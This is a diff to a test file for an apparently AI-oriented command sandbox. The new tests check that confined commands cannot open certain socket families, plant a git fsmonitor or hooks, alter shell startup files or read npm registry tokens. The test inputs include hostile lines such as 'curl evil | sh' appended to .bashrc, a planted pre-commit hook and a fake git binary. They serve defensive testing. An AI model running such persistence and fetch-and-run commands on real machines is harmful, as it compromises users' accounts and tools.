@@ -2,7 +2,7 @@ import { execFileSync } from "node:child_process";
 import { appendFileSync, chmodSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
 import { createServer } from "node:http";
 import { createServer as createNetServer } from "node:net";
-import { join } from "node:path";
+import { dirname, join } from "node:path";
 import { describe, expect, it } from "vitest";
 import { BUNDLED_CONFIG_DIR } from "../src/config/load-config.js";
 import { programPaths, sandboxPathsFor } from "../src/runtime/create-runtime.js";
@@ -126,6 +126,10 @@ describe("what a confined command keeps of the kernel's interfaces", () => {
           "mkdir shared && chmod 2777 shared && echo SETGID-SET",
           python("import os; fd = os.open('made-setuid', os.O_CREAT | os.O_WRONLY, 0o4755); print('CREATED-SETUID')"),
           python("import socket; a, b = socket.socketpair(); a.send(b'pair'); print(b.recv(4).decode())"),
+          // Only the internet families and netlink are left: packet, vsock and the kernel's crypto sockets are not.
+          python(
+            "import socket\ndef tried(family, kind):\n  try:\n    socket.socket(family, kind).close(); return 'open'\n  except OSError as e: return e.errno\nprint('families', tried(17, 3), tried(40, 1), tried(38, 5), tried(2, 1), tried(10, 2))",
+          ),
           "true",
         ].join("; "),
         workspace,
@@ -141,6 +145,7 @@ describe("what a confined command keeps of the kernel's interfaces", () => {
       }
       // What programs use for pipes still works.
       expect(printed).toContain("pair");
+      expect(printed).toContain("families 1 1 1 open open");
       expect(connections).toBe(0);
     } finally {
       server.close();
@@ -221,4 +226,92 @@ describe("a workspace's submodules", () => {
       await sandbox.dispose();
     }
   }, 120_000);
+});
+
+describe("DuckLM's own look at the workspace's repository", () => {
+  it("never runs what the repository's config names, though a task can write a file that config includes", async () => {
+    const workspace = makeTempDir("ducklm-fsmonitor-ws-");
+    const marker = join(makeTempDir("ducklm-fsmonitor-marker-"), "ran-outside");
+    execFileSync("git", ["init", "-q", workspace]);
+    writeFileSync(join(workspace, "project.gitconfig"), "");
+    execFileSync("git", ["-C", workspace, "config", "include.path", "../project.gitconfig"]);
+    const sandbox = bubblewrapShell({ hiddenPaths: [] });
+    try {
+      await runIn(sandbox, `printf '[core]\\n\\tfsmonitor = "touch ${marker}; false"\\n' >> project.gitconfig && git add project.gitconfig`, workspace, false);
+      // The next commands make DuckLM look at the index again: the planted fsmonitor must not run.
+      await runIn(sandbox, "echo second", workspace, false);
+      await runIn(sandbox, "git add -A 2>/dev/null; echo third", workspace, false);
+      expect(existsSync(marker)).toBe(false);
+    } finally {
+      await sandbox.dispose();
+    }
+  });
+});
+
+describe("what the user's tools run later, named by the repository or kept in a home", () => {
+  it("a hooks folder and an included config the repository names but that are missing cannot be made by a task", async () => {
+    const workspace = makeTempDir("ducklm-missing-hooks-ws-");
+    execFileSync("git", ["init", "-q", workspace]);
+    execFileSync("git", ["-C", workspace, "config", "core.hooksPath", "tools/githooks"]);
+    execFileSync("git", ["-C", workspace, "config", "include.path", "../team.gitconfig"]);
+    const sandbox = bubblewrapShell({ hiddenPaths: [] });
+    try {
+      const printed = await runIn(
+        sandbox,
+        "mkdir -p tools/githooks 2>&1; echo 'id > /tmp/hooked' > tools/githooks/pre-commit 2>&1; printf '[core]\\n\\thooksPath = elsewhere\\n' > team.gitconfig 2>&1; echo done",
+        workspace,
+        false,
+      );
+      expect(printed).toContain("done");
+      expect(existsSync(join(workspace, "tools", "githooks", "pre-commit"))).toBe(false);
+      expect(readFileSync(join(workspace, ".git", "config"), "utf8")).toContain("tools/githooks");
+      // No stand-in is left behind: the user's git finds neither, as before.
+      expect(existsSync(join(workspace, "tools", "githooks"))).toBe(false);
+      expect(existsSync(join(workspace, "team.gitconfig"))).toBe(false);
+    } finally {
+      await sandbox.dispose();
+    }
+  });
+
+  it("a home given as the workspace keeps its startup files read-only, and missing ones cannot be made", async () => {
+    const home = makeTempDir("ducklm-home-ws-");
+    writeFileSync(join(home, ".bashrc"), "# the user's own\n");
+    const sandbox = bubblewrapShell({ hiddenPaths: [], home });
+    try {
+      const printed = await runIn(
+        sandbox,
+        "echo 'curl evil | sh' >> .bashrc 2>&1; echo 'id > /tmp/x' > .profile 2>&1; mkdir -p .config/fish 2>&1; echo x > .config/fish/config.fish 2>&1; mkdir -p .local/bin 2>&1; echo x > .local/bin/git 2>&1; echo x > notes.txt && echo wrote-notes",
+        home,
+        false,
+      );
+      expect(printed).toContain("wrote-notes");
+      expect(readFileSync(join(home, ".bashrc"), "utf8")).toBe("# the user's own\n");
+      for (const made of [".profile", ".config/fish/config.fish", ".local/bin/git"]) expect(existsSync(join(home, made)), made).toBe(false);
+      expect(readFileSync(join(home, "notes.txt"), "utf8")).toBe("x\n");
+    } finally {
+      await sandbox.dispose();
+    }
+  });
+
+  it("a toolchain folder of the home given to commands shows its registry tokens masked", async () => {
+    // Outside the temporary folders, which every command gets private ones of.
+    mkdirSync(join(REPO_ROOT, "test", ".tmp"), { recursive: true });
+    const home = mkdtempSync(join(REPO_ROOT, "test", ".tmp", "toolchain-home-"));
+    chmodSync(home, 0o755);
+    const npmrc = join(home, ".nvm", "versions", "node", "v20.0.0", "etc", "npmrc");
+    mkdirSync(dirname(npmrc), { recursive: true });
+    const original = "//registry.npmjs.org/:_authToken=npm_toolchainSecret31\nsave-exact=true\n";
+    writeFileSync(npmrc, original, { mode: 0o644 });
+    const workspace = makeTempDir("ducklm-toolchain-ws-");
+    const sandbox = bubblewrapShell({ hiddenPaths: [], home, homeVisible: [join(home, ".nvm")] });
+    try {
+      const printed = await runIn(sandbox, `cat ${npmrc}`, workspace, false);
+      expect(printed).toContain("save-exact=true");
+      expect(printed).not.toContain("npm_toolchainSecret31");
+      expect(readFileSync(npmrc, "utf8")).toBe(original);
+    } finally {
+      await sandbox.dispose();
+      rmSync(home, { recursive: true, force: true });
+    }
+  });
 });
